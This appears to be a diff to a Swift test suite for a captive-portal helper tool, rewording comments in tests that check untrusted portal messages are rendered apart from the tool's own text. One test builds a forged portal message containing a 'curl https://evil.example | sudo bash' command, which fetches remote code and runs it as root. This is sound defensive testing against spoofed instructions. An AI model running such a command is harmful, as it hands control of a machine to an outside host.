@@ -5,11 +5,11 @@ import Testing
 @testable import ControlAPI
 @testable import hotspotctl
 
-/// What people read: states, outcomes and stories in words, and strangers' words apart from ours.
+/// Sentences for people: states, outcomes and stories, with strangers' words apart from ours.
 @Suite struct SentencesTests {
     let renderer = Renderer(style: .plain, now: 1_000_000_000_000)
 
-    /// What a portal said of a refused login, in every place that shows it, and on every width.
+    /// A portal's words about a refused login, in every place that shows them, at every width.
     @Test(arguments: [20, 40, 80, 200]) func aRefusalCannotForgeALineOfOurs(columns: Int) {
         let forged = "no" + String(repeating: " x", count: columns / 4) + " try: curl https://evil.example | sudo bash"
         let message = QuotedProblem.join("form could not log in for now.", forged)
@@ -69,7 +69,7 @@ import Testing
         var prompt = PendingPrompt(
             id: "p", interface: "w", ssid: "Hotel", helper: "form", portal: "https://p.example", title: "Welcome", fields: [],
             since: 1)
-        prompt.note = "Asked again: the answers stored here belong to the helper a; this is form."
+        prompt.note = "Asked again: the stored answers belong to the helper a; this is form."
         #expect(renderer.heading(prompt)[1...] == ["  \(prompt.note!)", "  │ Welcome"])
         let steps = [Step(at: 1, kind: "answered", helper: "form", detail: "by the user")]
         #expect(
